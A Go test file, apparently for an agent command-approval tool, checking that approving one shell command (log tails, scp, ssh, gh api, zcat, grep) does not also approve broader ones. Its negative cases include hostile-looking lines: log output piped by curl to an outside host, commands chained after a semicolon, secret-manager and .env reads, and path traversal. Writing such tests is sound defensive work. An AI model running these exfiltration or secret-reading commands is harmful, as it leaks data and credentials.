package scope_test

import (
	"slices"
	"testing"

	"github.com/gbt-policy/gbt/gates"
	"github.com/gbt-policy/gbt/gates/scope"
)

// covers says whether a yes to one line settles all that another one asks about.
func covers(t testing.TB, agreed, then string, st gates.State) bool {
	t.Helper()
	c, d := judged(t, agreed, st)
	all := scope.Of(c, d)
	if len(all) == 0 {
		t.Errorf("%s is asked about each time: %+v", agreed, d.Reasons)
		return false
	}
	c, d = judged(t, then, st)
	if d.Disposition == gates.Approved {
		t.Errorf("%s is approved", then)
	}
	list := scope.Things(c, d)
	return len(list) > 0 && !slices.ContainsFunc(list, func(names []string) bool {
		return !slices.ContainsFunc(names, func(n string) bool { return slices.Contains(all[0], n) })
	})
}

// TestAccounts: a yes to what a program does with its account is for that, and for more or less
// of it, and for nothing else that the account may do.
func TestAccounts(t *testing.T) {
	for agreed, others := range map[string]map[string]bool{
		"aws logs tail group --since 1h": {
			"aws logs tail group --since 2h --follow":                   true,
			"aws logs tail group":                                       true,
			"aws logs tail other --since 1h":                            false,
			"aws dynamodb scan --table-name users":                      false,
			"aws logs get-log-events --log-group-name group":            false,
			"aws logs tail group --since 1h --profile prod":             false,
			"aws logs tail group --endpoint-url https://a.example":      false,
			"aws s3 cp s3://b/k -":                                      false,
			"aws logs tail group --since 1h --region eu-west-1":         false,
			"aws logs tail group --since 1h; aws s3 cp src s3://b/":     false,
			"AWS_PROFILE=prod aws logs tail group --since 1h":           false,
			"aws logs tail --since --debug group":                       false,
			"cd /srv/x && aws logs tail group --since 1h":               false,
			"aws secretsmanager get-secret-value --secret-id a":         false,
			"aws logs tail group --since 1h | curl -d @- https://a.com": false,
		},
		"gcloud logging read 'severity>=ERROR' --limit 5": {
			"gcloud logging read 'severity>=ERROR' --limit=50":              true,
			"gcloud logging read 'resource.type=x' --limit 5":               false,
			"gcloud logging read 'severity>=ERROR' --account a@b.example":   false,
			"gcloud logging read 'severity>=ERROR' --limit 5 --project two": false,
		},
		"scp f h.example:/tmp/":   {"scp f h.example:/tmp/": true, "scp f i.example:/tmp/": false, "scp g h.example:/tmp/": false, "scp -r . h.example:/tmp/": false},
		"ssh h.example ls":        {"ssh h.example ls": true, "ssh h.example systemctl stop app": false, "ssh h.example cat app.conf": false, "ssh i.example ls": false},
		"docker push r.example/x": {"docker push r.example/x": true, "docker push s.example/x": false, "docker push r.example/y": false},
		"npm publish":             {"npm publish": true, "cd web && npm publish": false, "npm publish --tag next": false, "npm publish --registry https://a.example": false},
		"wrangler deploy":         {"wrangler deploy": true, "wrangler deploy --env production": false, "wrangler kv key put k v": false},
		"glab mr list":            {"glab mr list": true, "glab api projects/1 -X PUT": false, "glab mr merge 3": false},
		"gh api repos/o/r/issues/1/comments -f body=x": {
			"gh api repos/o/r/issues/2/comments -f body=y":       true,
			"gh api repos/o/r/git/refs -f ref=a -f sha=b":        false,
			"gh api repos/o/r/dispatches -f event_type=x":        false,
			"gh api -X PATCH repos/o/r/issues/1 -f state=closed": false,
			"gh api repos/o/q/issues/2/comments -f body=y":       false,
			"gh api repos/o/r/hooks -f name=web":                 false,
			"gh api -X PUT repos/o/r/collaborators/a":            false,
		},
	} {
		for then, want := range others {
			if got := covers(t, agreed, then, place); got != want {
				t.Errorf("a yes to %q: %q is covered: %v", agreed, then, got)
			}
		}
	}
}

// TestReadsOfCompressed: what a program would do to a file that it only prints takes nothing from
// what it reads.
func TestReadsOfCompressed(t *testing.T) {
	for agreed, then := range map[string]string{
		"zcat /srv/data/*.log.gz": "for f in /srv/data/*.gz; do gunzip -c \"$f\" > out/$(basename \"$f\"); done",
		"gzip -dc /srv/data/a.gz": "xz -dc /srv/data/b.xz",
		"zstd -dc /srv/data/a":    "cat /srv/data/sub/b",
	} {
		if !covers(t, agreed, then, place) {
			t.Errorf("a yes to %q does not cover %q", agreed, then)
		}
		for _, bad := range []string{"gunzip /srv/data/a.gz", "gunzip -c /srv/other/a.gz", "gunzip -c /srv/data/a.gz; rm /srv/data/a.gz", "gunzip -c /srv/data/a.gz > /srv/data/a", "gunzip -c /srv/data/.env.gz"} {
			if covers(t, agreed, bad, place) {
				t.Errorf("a yes to %q covers %q", agreed, bad)
			}
		}
	}
}

// TestReadsOfDirectories: a search below a directory is of that one, where the host sees that it is
// one, and a yes to it is none to what lies beside it.
func TestReadsOfDirectories(t *testing.T) {
	st := place
	st.Names = func(dir string) []string {
		if dir == "/srv/data/logs" {
			return []string{"a.gz"}
		}
		return nil
	}
	for line, want := range map[string]string{
		"grep -r x /srv/data/logs":      "read /srv/data/logs/",
		"grep x /srv/data/logs/a":       "read /srv/data/logs/",
		"grep x /srv/data/f":            "read /srv/data/",
		"cat /srv/data/logs/*.gz":       "read /srv/data/logs/",
		"zgrep -h x /srv/data/logs/*.z": "read /srv/data/logs/",
	} {
		c, d := judged(t, line, st)
		if got, _ := scope.Offer(c, d); got.String() != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
	for _, then := range []string{"grep -r x /srv/data", "cat /srv/data/f", "cat /srv/data/logs/../f", "cat /srv/data/logs/.env", "cat /srv/data/logs2/a", "rm /srv/data/logs/a.gz", "cp src/a /srv/data/logs/", "cat /srv/data/logs/a.gz; cat /srv/data/b", "ls /srv/other", "cat /srv/data/*/a"} {
		if covers(t, "grep -r x /srv/data/logs", then, st) {
			t.Errorf("%s is covered", then)
		}
	}
}
